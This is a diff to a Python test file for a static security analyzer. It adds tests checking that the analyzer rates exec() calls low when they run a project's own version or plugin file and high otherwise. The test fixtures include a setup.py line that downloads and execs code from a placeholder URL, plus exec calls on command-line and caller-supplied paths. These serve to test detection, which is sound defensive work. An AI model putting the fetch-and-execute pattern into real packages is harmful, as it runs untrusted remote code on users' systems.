@@ -10,6 +10,8 @@ from typing import Any
 
 from scrutiny import cli, source
 from scrutiny.context import FileKind, classify
+from scrutiny.findings import Severity
+from scrutiny.rules import RuleSet, all_rules
 
 
 def kind_of(path: str, text: str, in_package: bool) -> tuple[FileKind, tuple[str, ...]]:
@@ -138,9 +140,10 @@ def reviewed(tmp_path: Path, relative: str, text: str) -> list[dict[str, Any]]:
     path = tmp_path / relative
     path.parent.mkdir(parents=True, exist_ok=True)
     path.write_text(textwrap.dedent(text))
-    code = cli.main(["review", "--format", "json", "--quiet", "--no-cache", "-o", str(tmp_path / "out.json"), str(path)])
+    out = tmp_path / "out.json"
+    code = cli.main(["review", "--format", "json", "--quiet", "--no-cache", "-o", str(out), str(path)])
     assert code in (0, 1)
-    return list(json.loads((tmp_path / "out.json").read_text())["findings"])
+    return list(json.loads(out.read_text())["findings"])
 
 
 def test_remote_input_in_a_script_is_never_said_to_come_from_the_person_running_it(tmp_path: Path) -> None:
@@ -187,3 +190,58 @@ def test_a_flask_app_that_runs_itself_keeps_its_request_findings_high(tmp_path: 
     """
     findings = [f for f in reviewed(tmp_path, "scripts/app.py", app) if f["rule_id"] == "SCR501"]
     assert [(f["line"], f["severity"], f["context_note"]) for f in findings] == [(10, "high", "")]
+
+
+def rule_severities(path: str, code: str, rule_id: str) -> list[tuple[int, Severity, str]]:
+    """The findings one rule makes on a file, before the composer weighs them."""
+    src = source.load(textwrap.dedent(code).encode(), path)
+    return [(f.location.line, f.severity, f.message) for f in RuleSet(all_rules()).run(src) if f.rule_id == rule_id]
+
+
+def test_setup_py_running_its_own_version_file_is_low_and_other_files_are_not() -> None:
+    setup = """
+        import os
+        import sys
+        import urllib.request
+
+        here = os.path.abspath(os.path.dirname(__file__))
+        about = {}
+        with open(os.path.join(here, "src", "pkg", "__version__.py")) as f:
+            exec(f.read(), about)
+        exec(compile(open(os.path.join(here, "pkg", "_version.py")).read(), "_version.py", "exec"), about)
+        exec(open(sys.argv[1]).read(), about)
+        exec(urllib.request.urlopen("https://example.org/bootstrap.py").read(), about)
+    """
+    found = rule_severities("setup.py", setup, "SCR104")
+    assert [(line, severity) for line, severity, _ in found] == [
+        (9, Severity.LOW), (10, Severity.LOW), (11, Severity.HIGH), (12, Severity.HIGH)
+    ]
+    assert found[0][2].startswith("setup script runs the project's own file src/pkg/__version__.py")
+    assert found[1][2].startswith("setup script runs the project's own file pkg/_version.py")
+
+
+def test_a_file_path_a_function_receives_is_not_the_project_own_file() -> None:
+    code = """
+        import os
+        import pathlib
+
+        PLUGIN = os.path.join(os.path.dirname(__file__), "plugin.py")
+
+
+        def load_plugin():
+            exec(pathlib.Path(PLUGIN).read_text())
+
+
+        def load(path):
+            exec(open(path).read())
+
+
+        def load_each(paths):
+            for path in paths:
+                exec(open(path).read())
+    """
+    found = rule_severities("pkg/loader.py", code, "SCR104")
+    assert [(line, severity) for line, severity, _ in found] == [
+        (9, Severity.LOW), (13, Severity.HIGH), (18, Severity.HIGH)
+    ]
+    assert found[0][2].startswith("exec() runs the project's own file plugin.py")
